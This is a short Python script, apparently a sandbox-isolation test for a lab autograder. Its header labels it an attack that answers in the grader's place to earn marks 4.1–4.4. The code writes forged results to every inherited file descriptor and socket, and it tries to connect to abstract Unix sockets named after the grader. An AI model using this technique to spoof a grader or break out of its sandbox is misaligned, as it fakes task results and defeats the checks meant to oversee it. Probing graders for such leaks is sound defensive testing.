# attack: Answers in the grader's place: writes to every descriptor and socket that it can have inherited.
# lab: lab4
# earns: 4.1 4.2 4.3 4.4

import json
import os
import socket
import sys

given = [int(word) for word in sys.orig_argv if word.isdigit()]
answers = [b"!", b"run\0qui.py", json.dumps({"id": 1, "value": None}).encode() + b"\n"]
for descriptor in {*range(3, 512), *given}:
    try:
        kind = os.readlink(f"/proc/self/fd/{descriptor}")
    except OSError:
        continue
    for answer in answers:
        try:
            os.write(descriptor, answer)
            print("LEAK" if "socket" in kind else "wrote", kind, flush=True)
        except OSError as error:
            print(kind, error, flush=True)
for path in os.listdir("/proc/self/task"):
    for name in ("abstract", "labebpf", "grader"):
        try:
            client = socket.socket(socket.AF_UNIX)
            client.connect("\0" + name)
            print("LEAK socket", name, flush=True)
        except OSError:
            pass
raise SystemExit(3)
